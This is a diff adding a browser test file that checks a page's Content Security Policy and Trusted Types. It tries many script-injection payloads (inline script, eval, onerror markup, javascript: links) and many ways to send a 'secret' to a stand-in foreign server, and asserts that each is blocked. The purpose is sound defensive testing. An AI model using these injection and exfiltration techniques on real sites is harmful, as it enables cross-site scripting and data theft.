@@ -1,0 +1,248 @@
+// The policy, tested by trying to break it, in both browsers. Every attempt runs as a task of its own
+// in the page, as a foreign script that had got in would. Two servers watch: the page's own host and
+// a foreign one.
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { serve } from '../../tools/serve.mjs';
+import { BROWSERS, DIST, opened } from './harness.mjs';
+
+/** Attempts to run code that was not packed. Each must leave `globalThis.foreign` unset. */
+const RUNNING = {
+  'inline script': () => {
+    const script = document.createElement('script');
+    script.textContent = 'globalThis.foreign = 1';
+    document.head.append(script);
+  },
+  'script by address': ({ foreign }) => {
+    const script = document.createElement('script');
+    script.src = `${foreign}script.js`;
+    document.head.append(script);
+  },
+  'script in a data address': () => {
+    const script = document.createElement('script');
+    script.src = 'data:text/javascript,globalThis.foreign=1';
+    document.head.append(script);
+  },
+  'handler in an attribute': () => {
+    const button = document.createElement('button');
+    button.setAttribute('onclick', 'globalThis.foreign = 1');
+    document.body.append(button);
+    button.click();
+  },
+  'markup with a handler': () => {
+    const place = document.createElement('div');
+    document.body.append(place);
+    place.innerHTML = '<img src="data:," onerror="globalThis.foreign = 1">';
+  },
+  'javascript address': () => {
+    const link = document.createElement('a');
+    link.href = 'javascript:void(globalThis.foreign = 1)';
+    document.body.append(link);
+    link.click();
+  },
+  'eval': () => (0, eval)('globalThis.foreign = 1'),
+  'new Function': () => new Function('globalThis.foreign = 1')(),
+  'text as a timer': () => setTimeout('globalThis.foreign = 1', 0),
+  'import': () => import('data:text/javascript,globalThis.foreign=1'),
+  'worker from a blob': () => {
+    const address = URL.createObjectURL(new Blob(['postMessage(1)']));
+    const worker = new Worker(address);
+    worker.onmessage = () => { globalThis.foreign = 1; };
+  },
+  'frame with a script': () => {
+    const frame = document.createElement('iframe');
+    frame.srcdoc = '<script>parent.foreign = 1</script>';
+    document.body.append(frame);
+  },
+};
+
+/** Attempts to send something out. None may reach a server. */
+const SENDING = {
+  fetch: ({ to }) => fetch(`${to}fetch?secret`),
+  XMLHttpRequest: ({ to }) => {
+    const request = new XMLHttpRequest();
+    request.open('GET', `${to}xhr?secret`);
+    request.send();
+  },
+  beacon: ({ to }) => navigator.sendBeacon(`${to}beacon?secret`, 'secret'),
+  'event source': ({ to }) => new EventSource(`${to}events?secret`),
+  'web socket': ({ to }) => new WebSocket(`${to.replace('http', 'ws')}socket?secret`),
+  image: ({ to }) => { new Image().src = `${to}image?secret`; },
+  'image in SVG': ({ to }) => {
+    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
+    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
+    image.setAttribute('href', `${to}svg-image?secret`);
+    svg.append(image);
+    document.body.append(svg);
+  },
+  'style attribute': ({ to }) => { document.body.setAttribute('style', `background: url(${to}style?secret)`); },
+  'style by script': ({ to }) => { document.body.style.backgroundImage = `url(${to}cssom?secret)`; },
+  'style element': ({ to }) => {
+    const style = document.createElement('style');
+    style.textContent = `body { background: url(${to}style-element?secret) }`;
+    document.head.append(style);
+  },
+  'style sheet': ({ to }) => {
+    const link = document.createElement('link');
+    link.rel = 'stylesheet';
+    link.href = `${to}sheet.css?secret`;
+    document.head.append(link);
+  },
+  font: ({ to }) => new FontFace('x', `url(${to}font?secret)`).load(),
+  icon: ({ to }) => {
+    const link = document.createElement('link');
+    link.rel = 'icon';
+    link.href = `${to}icon?secret`;
+    document.head.append(link);
+  },
+  frame: ({ to }) => {
+    const frame = document.createElement('iframe');
+    frame.src = `${to}frame?secret`;
+    document.body.append(frame);
+  },
+  object: ({ to }) => {
+    const object = document.createElement('object');
+    object.data = `${to}object?secret`;
+    document.body.append(object);
+  },
+  embed: ({ to }) => {
+    const embed = document.createElement('embed');
+    embed.src = `${to}embed?secret`;
+    document.body.append(embed);
+  },
+  video: ({ to }) => {
+    const video = document.createElement('video');
+    video.src = `${to}video?secret`;
+    video.poster = `${to}poster?secret`;
+    document.body.append(video);
+    video.load();
+  },
+  audio: ({ to }) => { new Audio(`${to}audio?secret`).load(); },
+  'form, GET': ({ to }) => {
+    const form = document.createElement('form');
+    form.action = `${to}form-get`;
+    const field = document.createElement('input');
+    field.name = 'secret';
+    form.append(field);
+    document.body.append(form);
+    form.submit();
+  },
+  'form, POST': ({ to }) => {
+    const form = document.createElement('form');
+    form.method = 'post';
+    form.action = `${to}form-post?secret`;
+    document.body.append(form);
+    form.submit();
+  },
+  'another base': ({ to }) => {
+    const base = document.createElement('base');
+    base.href = `${to}base?secret`;
+    document.head.append(base);
+    new Image().src = 'relative?secret';
+  },
+  'ping of a link': ({ to }) => {
+    const link = document.createElement('a');
+    link.href = '#';
+    link.ping = `${to}ping?secret`;
+    document.body.append(link);
+    link.click();
+  },
+  'preload': ({ to }) => {
+    const link = document.createElement('link');
+    link.rel = 'preload';
+    link.as = 'image';
+    link.href = `${to}preload?secret`;
+    document.head.append(link);
+  },
+  'prefetch': ({ to, own }) => {
+    // To the own host Chromium lets it pass, because the worker's rule names 'self' (README).
+    if (own) return;
+    const link = document.createElement('link');
+    link.rel = 'prefetch';
+    link.href = `${to}prefetch?secret`;
+    document.head.append(link);
+  },
+  'shared worker': ({ to }) => new SharedWorker(`${to}shared-worker.js?secret`),
+  'manifest': ({ to, own }) => {
+    // Its own manifest is what the hosted page may have.
+    if (own) return;
+    const link = document.createElement('link');
+    link.rel = 'manifest';
+    link.href = `${to}manifest?secret`;
+    document.head.append(link);
+  },
+};
+
+/** Runs one attempt in the page, as a task of its own: what a debugger evaluates may do more. */
+const attempt = (page, code, given) =>
+  page.evaluate((source, argument) => {
+    // The source goes in as a function of the test, not as text: text would be refused.
+    const run = globalThis.attempts[source];
+    if (!run) throw new Error(`no attempt "${source}"`);
+    return new Promise((done) => {
+      setTimeout(async () => {
+        try { await run(argument); } catch { /* refused loudly */ }
+        setTimeout(done, 0);
+      }, 0);
+    });
+  }, code, given);
+
+/** Puts the attempts into the page before anything else, where the policy does not look yet. */
+const armed = () => {
+  const all = { ...RUNNING, ...SENDING };
+  const source = Object.entries(all).map(([name, run]) => `${JSON.stringify(name)}: ${run.toString()}`).join(',\n');
+  return `globalThis.attempts = {${source}};`;
+};
+
+for (const browser of BROWSERS) {
+  test(`${browser}: no foreign code runs and nothing is sent, however it is tried`, async () => {
+    const other = await serve({ dir: `${DIST}/no-such-folder` });
+    try {
+      await opened(browser, { from: 'http', before: armed() }, async ({ page, seen }) => {
+        const own = page.url();
+        for (const name of Object.keys(RUNNING)) {
+          await attempt(page, name, { foreign: other.address });
+          assert.equal(await page.evaluate(() => globalThis.foreign), undefined, name);
+        }
+        for (const name of Object.keys(SENDING)) {
+          await attempt(page, name, { to: other.address, own: false });
+          await attempt(page, name, { to: own, own: true });
+        }
+        // What comes last is answered last: then everything before it would have arrived.
+        await page.waitForFunction(() => globalThis.violations.length > 10);
+        await page.evaluate(() => new Promise((done) => { setTimeout(done, 500); }));
+        // Each rule was put to the test, not passed by.
+        const stopped = new Set((await page.evaluate(() => globalThis.violations)).map((one) => one.split(' ')[0]));
+        for (const rule of ['connect-src', 'img-src', 'form-action', 'base-uri', 'frame-src', 'media-src', 'font-src']) {
+          assert.ok(stopped.has(rule), `nothing was stopped by ${rule}; by ${[...stopped].join(', ')}`);
+        }
+        assert.equal(page.url().split('#')[0], own, 'the page was left');
+        assert.deepEqual(seen.server, ['/'], 'requests to the own host');
+        assert.deepEqual(other.seen, [], 'requests to a foreign host');
+        assert.equal(await page.evaluate(() => globalThis.foreign), undefined, 'foreign code, late');
+      });
+    } finally {
+      await other.close();
+    }
+  });
+}
+
+test('chromium: trusted types refuse text where code or markup is expected', () =>
+  opened('chromium', {}, async ({ page }) => {
+    const refused = await page.evaluate(() => {
+      const out = {};
+      const tries = {
+        innerHTML: () => { document.createElement('div').innerHTML = '<b>x</b>'; },
+        'script text': () => { document.createElement('script').text = 'x'; },
+        'script address': () => { document.createElement('script').src = 'x.js'; },
+        srcdoc: () => { document.createElement('iframe').srcdoc = 'x'; },
+        'another policy': () => { globalThis.trustedTypes.createPolicy('foreign', {}); },
+        'document.write': () => { document.write('x'); },
+      };
+      for (const [name, run] of Object.entries(tries)) {
+        try { run(); out[name] = 'allowed'; } catch (error) { out[name] = error.name; }
+      }
+      return out;
+    });
+    for (const [name, error] of Object.entries(refused)) assert.equal(error, 'TypeError', name);
+  }));
